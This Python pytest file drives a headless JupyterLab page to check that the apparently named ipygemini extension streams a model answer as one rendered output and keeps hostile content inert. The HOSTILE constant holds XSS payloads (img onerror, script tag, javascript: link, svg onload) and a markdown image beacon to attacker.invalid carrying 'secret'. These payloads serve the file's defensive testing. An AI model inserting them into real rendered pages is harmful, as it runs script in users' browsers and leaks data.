"""%%gemini in a real JupyterLab page (headless chromium): hostile answers stay inert, the answer
streams live into displays first shown empty, and the finished answer is ONE rendered output.
Skipped where no browser is available.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from _lab import Lab, chromium_page, missing, open_notebook, run_cell, write_notebook
from conftest import kernel_env
from ipygemini.testing import FakeGateway

pytestmark = pytest.mark.skipif(missing() is not None, reason=missing() or "")

HOSTILE = (
    '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> '
    "[click](javascript:window.__pwned=3) ![leak](https://attacker.invalid/?q=secret) "
    "<svg onload=window.__pwned=4>"
)
CELLS = [
    "%load_ext ipygemini",
    f"%%gemini --thinking\n{HOSTILE} [fake:delay=0.01] and some code",
]


def test_streamed_answer_in_jupyterlab(magic_gateway: FakeGateway, tmp_path: Path) -> None:
    env = kernel_env(magic_gateway)
    lab_env = {k: env[k] for k in ("GEMINI_BASE_URL", "GEMINI_API_KEY")}
    with Lab(tmp_path, lab_env) as lab:
        write_notebook(lab.root / "gemini.ipynb", CELLS)
        with chromium_page(tmp_path) as page:
            requests: list[str] = []
            page.on("request", lambda request: requests.append(request.url))
            open_notebook(page, lab.url("gemini.ipynb"))
            run_cell(page, 0)
            run_cell(page, 1)
            cell = page.locator(".jp-Notebook .jp-Cell").nth(1)
            cell.locator(".jp-OutputArea-output", has_text="FakeGateway").wait_for(timeout=60_000)
            live_footers = cell.locator(".jp-OutputArea-output", has_text="tokens").count()
            live_empty: list[float] = page.evaluate(
                """(cell) => [...cell.querySelectorAll('.jp-OutputArea-child')]
                    .filter(o => o.innerText.trim() === '')
                    .map(o => o.getBoundingClientRect().height)""",
                cell.element_handle(),
            )
            cell.locator(".jp-OutputArea-output", has_text="tokens").wait_for(timeout=60_000)
            report: dict[str, Any] = page.evaluate(
                """(cell) => {
                    const outputs = [...cell.querySelectorAll('.jp-OutputArea-child')];
                    const empty = outputs.filter(o => o.innerText.trim() === '');
                    return {
                        pwned: window.__pwned ?? null,
                        outputs: outputs.length,
                        emptyHeights: empty.map(o => o.getBoundingClientRect().height),
                        images: [...cell.querySelectorAll('img, svg image, iframe, script')]
                            .map(e => e.outerHTML.slice(0, 120)),
                        details: cell.querySelectorAll('details').length,
                        openDetails: cell.querySelectorAll('details[open]').length,
                        code: cell.querySelectorAll('pre code.language-python').length,
                        links: [...cell.querySelectorAll('.jp-OutputArea a')]
                            .map(a => a.getAttribute('href')),
                        text: cell.querySelector('.jp-OutputArea').innerText,
                    };
                }""",
                cell.element_handle(),
            )
            page.screenshot(path=str(tmp_path / "gemini.png"), full_page=True)
    assert report["pwned"] is None
    assert report["images"] == []
    assert not [url for url in requests if "attacker.invalid" in url]
    assert all(href is None or href.startswith("https://") for href in report["links"])
    assert "https://attacker.invalid/?q=secret" in report["links"]  # a link, never loaded
    assert '<img src=x onerror="window.__pwned=1">' in report["text"]  # shown as text
    assert report["details"] == 1 and report["openDetails"] == 0  # thinking, folded
    assert report["code"] == 1
    assert live_footers == 0  # the answer showed while it streamed, before the footer
    assert max(live_empty, default=0.0) <= 1.0, live_empty  # empty live handles take no room
    assert report["outputs"] == 1, report["outputs"]  # then one output: answer and footer
